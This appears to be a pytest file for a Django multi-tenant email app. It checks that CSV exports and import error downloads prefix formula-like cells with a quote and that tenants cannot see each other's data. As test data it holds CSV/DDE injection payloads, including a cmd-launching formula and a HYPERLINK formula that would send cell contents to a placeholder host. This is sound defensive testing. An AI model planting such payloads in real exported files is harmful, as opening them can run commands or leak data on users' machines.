"""CSV (formula) injection: every CSV we write (the `leads export` command, the dashboard export,
the import error download in the dashboard and the API) neutralises formula-like cells with a
leading quote, and keeps plain numbers such as "-5" or "+14155550100" as they are."""

from __future__ import annotations

import csv
import subprocess
from io import StringIO
from typing import Any

import pytest
from django_tenants.utils import schema_context

from campaigns.services.leads import create_leads
from penguinmails.csvsafe import neutralise
from tests.api.conftest import key_client
from tests.conftest import Cast, client_for
from tests.leads.conftest import csv_bytes, principal, run_jobs, upload
from tests.ops.conftest import MANAGE, PYTHON, ROOT, subprocess_env
from tests.ops.conftest import the_test_database_url as database_url

pytestmark = pytest.mark.django_db(transaction=True)

EVIL = "=cmd|' /C calc'!A0"


def _seed(cast: Cast) -> None:
    with schema_context(cast.tenant.schema_name):
        result = create_leads(
            principal(cast.tenant, cast.owner),
            rows=[
                {
                    "email": "ann@alpha.example",
                    "first_name": EVIL,
                    "last_name": "@SUM(1+1)*cmd|' /C calc'!A0",
                    "company": "-2+3",
                    "title": "\t=1+1",
                    "phone": "+14155550100",
                    "custom_fields": {"score": "-5", "note": '+HYPERLINK("http://x/?"&A1)'},
                }
            ],
        )
    assert result.created == 1, result.results


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(StringIO(text)))


def _stream(response: Any) -> str:
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content).decode()


def _assert_neutralised(row: dict[str, str]) -> None:
    assert row["first_name"] == "'" + EVIL
    assert row["last_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["company"] == "'-2+3"
    assert row["title"].startswith("'")  # stored stripped or not, it is quoted
    assert row["note"] == '\'+HYPERLINK("http://x/?"&A1)'
    # Plain numbers are numbers to a spreadsheet, never formulas: kept (docs/leads.md).
    assert (row["phone"], row["score"]) == ("+14155550100", "-5")
    assert row["email"] == "ann@alpha.example"


def test_the_export_command_neutralises_formulas(cast: Cast) -> None:
    _seed(cast)

    def export(slug: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [PYTHON, MANAGE, "leads", "export", "--tenant", slug],
            env=subprocess_env(DATABASE_URL=database_url()),
            cwd=ROOT, capture_output=True, text=True, timeout=120,
        )  # fmt: skip

    done = export("acme")
    assert done.returncode == 0, done.stderr
    rows = _rows(done.stdout)
    assert len(rows) == 1
    _assert_neutralised(rows[0])
    other = export("globex")  # the outsider's workspace holds none of it
    assert other.returncode == 0 and EVIL not in other.stdout and _rows(other.stdout) == []


def test_the_dashboard_export_neutralises_formulas(cast: Cast) -> None:
    _seed(cast)
    rows = _rows(_stream(client_for(cast.viewer, cast.tenant).get("/campaigns/leads/export.csv")))
    assert len(rows) == 1
    _assert_neutralised(rows[0])
    outsider = client_for(cast.outsider, cast.other_tenant).get("/campaigns/leads/export.csv")
    assert _rows(_stream(outsider)) == []
    refused = client_for(cast.outsider, cast.tenant).get("/campaigns/leads/export.csv")
    assert refused.status_code in (302, 403, 404)


def test_the_import_error_download_neutralises_formulas(cast: Cast) -> None:
    data = csv_bytes(f"email,first_name\nok@example.com,Ok\n{EVIL},Eve\n-1+1,Minus\n")
    imp = upload(cast, data)
    run_jobs()
    page = client_for(cast.member, cast.tenant).get(f"/campaigns/leads/imports/{imp.pk}/errors.csv")
    api = key_client(cast.tenant, role="viewer").client.get(
        f"/api/v1/leads/imports/{imp.pk}/errors"
    )
    for text in (_stream(page), _stream(api)):
        rows = _rows(text)
        assert [r["email"] for r in rows] == ["'" + EVIL, "'-1+1"], rows
        assert all(not r[key].startswith(("=", "+", "-", "@")) for r in rows for key in r)
    outsider = client_for(cast.outsider, cast.other_tenant)
    assert outsider.get(f"/campaigns/leads/imports/{imp.pk}/errors.csv").status_code == 404
    foreign = client_for(cast.outsider, cast.other_tenant, api=True)
    assert foreign.get(f"/api/v1/leads/imports/{imp.pk}/errors").status_code == 404


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1 415 555 0100", "'+1 415 555 0100"),
        ("-A1", "'-A1"),
        ("@foo", "'@foo"),
        ("\r=1", "'\r=1"),
        ("\n=1", "'\n=1"),
        ("＝1+1", "'＝1+1"),
        ("-5", "-5"),
        ("+14155550100", "+14155550100"),
        ("-1.5e3", "-1.5e3"),
        ("-5 ", "'-5 "),
        ("Ann", "Ann"),
        ("a=b", "a=b"),
        ("", ""),
        (-5, -5),
        (True, True),
    ],
)
def test_neutralise_prefixes_formula_like_text_and_keeps_plain_numbers(
    value: object, written: object
) -> None:
    assert neutralise(value) == written
